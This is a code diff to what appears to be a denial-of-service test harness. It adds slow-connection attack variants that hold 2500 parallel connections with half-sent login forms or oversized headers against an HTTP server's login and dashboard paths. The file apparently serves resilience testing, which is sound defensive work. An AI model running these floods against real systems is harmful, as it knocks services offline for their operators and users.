@@ -29,9 +29,9 @@ def _bursting(connections: int, sent: bytes) -> Attack:
     return attack
 
 
-def _holding(connections: int, sent: bytes) -> Attack:
+def _holding(connections: int, sent: bytes, *, again: bool = True) -> Attack:
     async def attack(target: Target) -> None:
-        await in_parallel(connections, lambda _: hold(target, sent))
+        await in_parallel(connections, lambda _: hold(target, sent), again=again)
 
     return attack
 
@@ -99,6 +99,11 @@ ATTACKS: dict[str, Attack] = {
     "pipelined-pages": _flooding(10, b"", MODELS.replace(b"/v1/models", b"/dashboard/login") * 500),
     # forms that stop half-way (F9)
     "half-forms": _holding(2500, LOGIN % 250_001 + b"a" * 250_000),
+    "half-forms-once": _holding(2500, LOGIN % 250_001 + b"a" * 250_000, again=False),
+    "half-heads-once": _holding(
+        2500, b"GET / HTTP/1.1\r\n" + HOST + b"".join(b"X-%d: %s\r\n" % (n, b"a" * 7000) for n in range(9)), again=False
+    ),
+    "half-small-forms-once": _holding(2500, LOGIN % 4000 + b"a" * 3999, again=False),
     "half-small-forms": _holding(2500, LOGIN % 4000 + b"a" * 3999),
     "half-chunked-forms": _holding(
         2500, LOGIN.replace(b"Content-Length: %d", b"Transfer-Encoding: chunked") + b"3d090\r\n" + b"a" * 249_999
